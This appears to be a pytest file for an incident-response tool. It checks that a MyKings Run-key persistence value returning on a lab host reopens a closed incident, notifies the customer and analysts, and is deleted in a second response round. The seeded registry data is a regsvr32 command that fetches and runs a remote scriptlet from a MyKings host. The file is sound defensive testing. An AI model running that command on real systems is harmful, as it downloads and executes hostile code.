"""MyKings, two years on: the Run-key value comes back after the incident was contained and closed. The
re-check finds it, reopens the incident for a new round, tells the customer and the analysts, and the new
respond run removes the value again."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from actions.lab import LabFleet, RegistryValueSeed
from flows.demo import DEMO_HOST, RUN_KEY, mykings_alert, mykings_host
from flows.models import Alert
from flows.recheck import Outcome, recheck
from flows.respond import RespondRequest, respond
from flows.settings import Settings
from flows.store import IncidentStatus, Store
from flows.tenants import tenants_from

pytestmark = pytest.mark.usefixtures("prefect_harness")
START = "regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll"


def _values(fleet: LabFleet) -> list[str]:
    return [v["name"] for v in fleet.show("demo", DEMO_HOST)[0]["registry_values"]]


def test_persistence_back_on_a_closed_incident_reopens_it_and_the_new_round_removes_it(
    settings: Settings, store: Store
) -> None:
    fleet = LabFleet(store.engine)
    fleet.seed(mykings_host())
    document = mykings_alert()
    incident_id = store.record_alert(Alert.model_validate(document), document).incident_id
    assert respond(RespondRequest(incident_id=incident_id))["status"] == "contained"
    store.set_status(incident_id, IncidentStatus.CLOSED, "closed by analyst alice", "close")
    tenants = tenants_from(settings.tenants_file)
    assert _values(fleet) == ["SecurityHealth"]

    # Nothing changed yet: still fine, every effect of the round read back from the lab.
    [fine] = recheck(store, tenants, now=datetime.now(UTC))
    assert fine.outcome is Outcome.STILL_FINE
    assert [e.state for e in fine.effects] == ["holds"] * 6  # isolation, 2 blocks, 3 registry values

    fleet.restore_registry_value("demo", DEMO_HOST, RegistryValueSeed(key=RUN_KEY, name="start", data=START))
    [finding] = recheck(store, tenants, now=datetime.now(UTC))

    assert finding.outcome is Outcome.REOPENED and finding.round == 2
    assert finding.reasons == [f"Run-key value start is back on {DEMO_HOST}"]
    assert sorted(e.state for e in finding.effects) == ["holds"] * 5 + ["lost"]
    incident = store.incident(incident_id)
    assert incident is not None and incident.status == "reopened" and incident.round == 2
    assert incident.timeline[-3].message == (
        f"re-check: reopened: Run-key value start is back on {DEMO_HOST} (new response round 2)"
    )
    told = [(n.event, n.status) for n in incident.notifications][-2:]
    assert told == [("incident_reopened", "delivered"), ("escalation", "delivered")]
    customer = sorted((settings.outbox_dir / "demo").glob("*.txt"))[-1].read_text()
    assert "reopened" in customer and f"Run-key value start is back on {DEMO_HOST}" in customer
    assert [r for r in store.undispatched() if r == incident_id]

    again = respond(RespondRequest(incident_id=incident_id))

    assert again["status"] == "contained"
    assert _values(fleet) == ["SecurityHealth"]  # removed again, in round 2's own ledger row
    round2 = [
        r for r in store.ledger.rows(incident_id) if r.round == 2 and r.action == "lab.delete_registry_value"
    ]
    changed = {r.inputs["name"]: r.changed for r in round2 if r.inputs["key"] == RUN_KEY}
    assert changed == {"start": True, "start1": False}  # only what came back was deleted again
